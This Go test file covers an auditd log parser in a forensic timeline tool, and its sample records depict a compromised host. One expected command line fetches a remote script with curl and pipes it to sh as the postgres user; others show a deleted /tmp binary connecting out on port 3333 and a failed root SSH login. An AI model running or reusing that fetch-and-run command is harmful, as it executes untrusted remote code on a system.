package auditd

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/cordon-forensics/cordon/timeline"
)

var origin = timeline.Origin{Bundle: "ev1", Entry: "fs/var/log/audit/audit.log", Host: "buildagent"}

func TestParseRecord(t *testing.T) {
	rec, err := ParseRecord([]byte(`type=EXECVE msg=audit(1773735971.204:1042): argc=3 a0="sh" a1=2D63 a2=6C73202D6C`))
	if err != nil {
		t.Fatal(err)
	}
	if rec.Type != "EXECVE" || rec.Serial != 1042 || !rec.Time.Equal(time.Unix(1773735971, 204e6)) {
		t.Fatalf("header: %+v", rec)
	}
	if rec.Get("a0") != "sh" || rec.Get("a1") != "-c" || rec.Get("a2") != "ls -l" {
		t.Errorf("args: %+v", rec.Fields)
	}
	// a SYSCALL's a0…a3 are numbers in hex, never text
	rec, _ = ParseRecord([]byte(`type=SYSCALL msg=audit(1.5:2): a0=4142 id=1001`))
	if rec.Get("a0") != "4142" || rec.Get("id") != "1001" || !rec.Time.Equal(time.Unix(1, 5e8)) {
		t.Errorf("syscall args decoded: %+v %v", rec.Fields, rec.Time)
	}
	for _, bad := range []string{"", "hello", "type=X", "type=X msg=audit(", "type=X msg=audit(1.2): a=b", "type=X msg=audit(x.1:2): a", "type=X msg=audit(1.1234567890:2): a"} {
		if _, err := ParseRecord([]byte(bad)); err == nil {
			t.Errorf("ParseRecord(%q) gave no error", bad)
		}
	}
}

func TestParse(t *testing.T) {
	res := ParseBytes([]byte(realShaped), origin)
	if len(res.Warnings) != 0 {
		t.Errorf("warnings: %+v", res.Warnings)
	}
	byAction := map[string][]timeline.Event{}
	for _, e := range res.Events {
		byAction[e.Event.Action] = append(byAction[e.Event.Action], e)
	}
	if len(res.Events) != 9 {
		for _, e := range res.Events {
			t.Logf("%s %s %q", e.Timestamp, e.Event.Action, e.Message)
		}
		t.Fatalf("got %d events, want 9", len(res.Events))
	}

	execs := byAction["process-executed"]
	if len(execs) != 2 {
		t.Fatalf("process-executed events: %d", len(execs))
	}
	e := execs[0]
	if e.Process.CommandLine != "sh -c curl -fsSL http://203.0.113.7/x | sh" || e.Process.PID != 4471 || e.Process.Parent.PID != 4410 ||
		e.Process.Executable != "/usr/bin/dash" || e.Process.WorkingDir != "/var/lib/postgresql/16/main" || e.File.Path != "/bin/sh" {
		t.Errorf("execve event: %+v %+v", e.Process, e.File)
	}
	if e.User.ID != "999" || e.User.Name != "postgres" || e.Labels["audit.key"] != "exec" || e.Labels["audit.syscall"] != "execve" {
		t.Errorf("execve user/labels: %+v %v", e.User, e.Labels)
	}
	if !e.Timestamp.Equal(time.Unix(1773735971, 204e6)) || e.Cordon.TimeMeaning != timeline.MeaningCommand || e.Cordon.Provenance.Line != 1 || e.Cordon.Provenance.Offset != 0 {
		t.Errorf("execve time/provenance: %v %+v", e.Timestamp, e.Cordon)
	}
	if e.Labels["audit.euid"] != "999" || e.Labels["audit.syscall_a0"] != "55d0c1b0e2a0" || e.Labels["audit.syscall_a3"] != "8" ||
		e.Labels["audit.paths"] != "/bin/sh\n/lib64/ld-linux-x86-64.so.2" || e.Labels["audit.nametypes"] != "NORMAL\nNORMAL" {
		t.Errorf("execve SYSCALL arguments, euid, PATH names and types: %v", e.Labels)
	}
	if e.Labels["audit.record_types"] != "SYSCALL,EXECVE,CWD,PATH,PROCTITLE" || !strings.Contains(e.Event.Original, "type=PROCTITLE") {
		t.Errorf("grouping: %v", e.Labels["audit.record_types"])
	}
	// split argument joined, interleaved group still whole
	if got := execs[1].Process.Args; len(got) != 2 || got[1] != "abcdefghij" {
		t.Errorf("split argument: %q", got)
	}

	auth := byAction["user-auth"][0]
	if auth.User.Name != "root" || auth.Source.IP != "185.241.34.154" || auth.Event.Outcome != "failure" || auth.Process.Executable != "/usr/sbin/sshd" {
		t.Errorf("USER_AUTH: %+v %+v %+v", auth.User, auth.Source, auth.Event)
	}
	login := byAction["user-login"][0]
	if login.User.ID != "1000" || login.Source.IP != "198.51.100.20" || login.Event.Outcome != "success" || login.Cordon.TimeMeaning != timeline.MeaningLogin || login.Labels["audit.terminal"] != "/dev/pts/0" {
		t.Errorf("USER_LOGIN: %+v %+v %+v %v", login.User, login.Source, login.Event, login.Labels)
	}
	if s := byAction["session-start"][0]; s.User.Name != "lxd" {
		t.Errorf("USER_START: %+v", s.User)
	}
	if c := byAction["user-command"][0]; c.Process.CommandLine != "docker ps" || c.Process.Executable != "/usr/bin/sudo" {
		t.Errorf("USER_CMD: %+v", c.Process)
	}
	if a := byAction["user-added"][0]; a.User.ID != "1001" || a.Event.Outcome != "success" {
		t.Errorf("ADD_USER: %+v", a.User)
	}
	conn := byAction["syscall-connect"][0]
	if conn.Destination == nil || conn.Destination.IP != "198.51.100.10" || conn.Destination.Port != 3333 ||
		conn.Process.Name != "mysql" || conn.Process.Executable != "/tmp/mysql (deleted)" || conn.Event.Outcome != "failure" {
		t.Errorf("connect: %+v %+v %+v", conn.Destination, conn.Process, conn.Event)
	}
	d := byAction["daemon-start"][0]
	if d.Host.Name != "agent" || d.Labels["audit.node"] != "agent" {
		t.Errorf("node prefix: %+v", d.Host)
	}
}

func TestLongLineAndBadRecords(t *testing.T) {
	var in bytes.Buffer
	in.WriteString("type=SYSCALL msg=audit(1.000:1): pid=" + strings.Repeat("9", MaxLine) + "\n")
	in.WriteString("garbage line\n")
	in.WriteString("type=USER_AUTH msg=audit(1773736000.100:1050): pid=1 msg='acct=\"\xff\" res=success'\n")
	res := ParseBytes(in.Bytes(), origin)
	if len(res.Warnings) != 2 || res.Warnings[0].Line != 1 || res.Warnings[1].Line != 2 {
		t.Errorf("warnings: %+v", res.Warnings)
	}
	if len(res.Events) != 1 || res.Events[0].User.Name != `\xff` || res.Events[0].Cordon.Provenance.Line != 3 {
		t.Errorf("events: %+v", res.Events)
	}
}

func TestManyOpenGroupsAreBounded(t *testing.T) {
	var in bytes.Buffer
	for i := 0; i < 1000; i++ {
		in.WriteString("type=SYSCALL msg=audit(1773736040.000:")
		in.WriteString(strings.Repeat("1", 1) + string(rune('0'+i%10)) + strings.Repeat("0", i/10%5))
		in.WriteString("): syscall=1 pid=1\n")
	}
	for i := 0; i < 1000; i++ {
		in.WriteString("type=PATH msg=audit(1773736041.000:7): name=\"/x\"\n")
	}
	res := ParseBytes(in.Bytes(), origin)
	if len(res.Events) == 0 || len(res.Warnings) != 1 || !strings.Contains(res.Warnings[0].Message, "more than") {
		t.Errorf("%d events, warnings %+v", len(res.Events), res.Warnings)
	}
}

func TestGarbage(t *testing.T) {
	garbage := make([]byte, 64<<10)
	for i := range garbage {
		garbage[i] = byte(i*7919 + i>>3)
	}
	res := ParseBytes(garbage, origin)
	if len(res.Warnings) == 0 || len(res.Events) != 0 {
		t.Fatalf("garbage: %d warnings %d events", len(res.Warnings), len(res.Events))
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(realShaped))
	f.Fuzz(func(t *testing.T, b []byte) {
		res := ParseBytes(b, origin)
		for _, e := range res.Events {
			if e.Event.Dataset != Dataset || e.Event.Action == "" {
				t.Fatalf("bad event %+v", e.Event)
			}
		}
	})
}
